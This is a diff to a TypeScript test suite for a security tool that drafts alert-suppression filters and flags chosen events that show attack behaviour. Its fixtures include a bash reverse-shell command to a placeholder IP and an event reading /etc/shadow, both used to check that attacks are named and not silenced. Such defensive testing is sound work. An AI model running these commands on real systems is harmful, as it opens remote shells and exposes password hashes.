@@ -21,6 +21,11 @@ const borg = (index: number, fields: object = {}) => ({
   timestamp: NOW - index * 1000,
   ...fields,
 });
+/** Another word for each number: digits are taken for what changes each time. */
+const wordOf = (index: number): string =>
+  [17_576, 676, 26, 1]
+    .map((unit) => String.fromCharCode(97 + (Math.floor(index / unit) % 26)))
+    .join("");
 const shell = (index: number) =>
   borg(index, { exe: "/bin/bash", arguments: "bash -i >& /dev/tcp/198.51.100.4/443 0>&1" });
 
@@ -60,14 +65,15 @@ test("offers proven filters, what each does to the alerts of the rule, and the c
     "3 suppressions for rule dddddddd: narrow to broad, each matches all 2 chosen events (of 3), and nothing protected in the 3 alerts looked at
     <data>
     1 narrow: user = "backup" and exe = "/usr/local/bin/borg" and type = "start" and tty = null and arguments = "borg create /srv/repo::nightly"
-      also silences 1 alike of 1 other alerts; alerts before 3, after 2
+      also silences 1 event like them in 1 other alert; alerts before 3, after 2
     2 middle: user = "backup" and exe = "/usr/local/bin/borg" and type = "start" and arguments starts_with "borg create /srv/repo::nightly"
-      also silences 1 alike of 1 other alerts; alerts before 3, after 2
+      also silences 1 event like them in 1 other alert; alerts before 3, after 2
     3 broad: user = "backup" and exe = "/usr/local/bin/borg"
-      also silences 1 alike of 1 other alerts; alerts before 3, after 2
+      also silences 1 event like them in 1 other alert; alerts before 3, after 2
     call: threatstack_update_suppressions ruleset_id="eeeeeeee-cb87-41ea-b55e-4f5cfb08a8d1" rule_id="dddddddd-cb87-41ea-b55e-4f5cfb08a8d1" add=["user = \\"backup\\" and exe = \\"/usr/local/bin/borg\\" and type = \\"start\\" and tty = null and arguments = \\"borg create /srv/repo::nightly\\""]
     </data>
     looked at: this alert and the 2 newest others of its rule
+    protected there: attack behaviour that was not chosen; in other alerts also acts unlike the chosen ones, or from other machines
     to record: owner=?, reason=?, review=2026-05-31
     next: an analyst decides; with --allow-writes the call puts filter 1 on the rule (the console does it too), which acts after 10 to 15 minutes"
   `);
@@ -102,7 +108,42 @@ test("an attack that a person vouches for by its id is told as what it is", asyn
 
   const { text } = await call(TOOL, { alert_id: MINE, event_ids: ["00000003"] });
 
-  expect(text).toContain("caution: 1 of the chosen events show attack behaviour, such as T1");
+  expect(text).toMatch(
+    /^caution: 1 of the chosen events show attack behaviour, T1[\d.]+ \(event 00000003\)/m,
+  );
+  expect(text).toMatch(/^1 suppression for rule dddddddd: it matches/);
+  expect(text).toContain("like them in 1 other alert (1 with the same attack behaviour)");
+});
+
+test("each technique that is vouched for is named, not the first alone", async () => {
+  const hashes = borg(6, { event_type: "file", type: "open", filename: "/etc/shadow" });
+  const events = { [MINE]: [shell(3), shell(4), hashes] };
+  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });
+  const event_ids = ["00000003", "00000004", "00000006"];
+
+  const { text } = await call(TOOL, { alert_id: MINE, event_ids });
+
+  expect(text).toMatch(
+    /^caution: 3 of the chosen .*, T1059\.004 \(event 00000003\), T1003\.008 \(event 00000006\):/m,
+  );
+});
+
+async function draftOfAll(list: readonly object[]): Promise<string> {
+  const events = { [MINE]: list };
+  const { call } = await startTools({ tenant: makeTenant({ alerts, rules, rulesets, events }) });
+  return (await call(TOOL, { alert_id: MINE, where: 'user = "backup"' })).text;
+}
+
+test("more kinds of events than can be judged are refused, and an attack that comes last is named", async () => {
+  const kinds = Array.from({ length: 4200 }, (_, index) =>
+    borg(10 + index, { exe: `/opt/x/job${wordOf(index)}`, arguments: `job${wordOf(index)}` }),
+  );
+  expect(await draftOfAll(kinds)).toMatch(
+    /^no suppression: the chosen events are of more than 4,096 kinds/,
+  );
+  expect(await draftOfAll([...kinds, shell(3)])).toMatch(
+    /^no suppression: 1 of the 4,201 chosen events show attack behaviour/,
+  );
 });
 
 test("an alert without events counts as looked at", async () => {
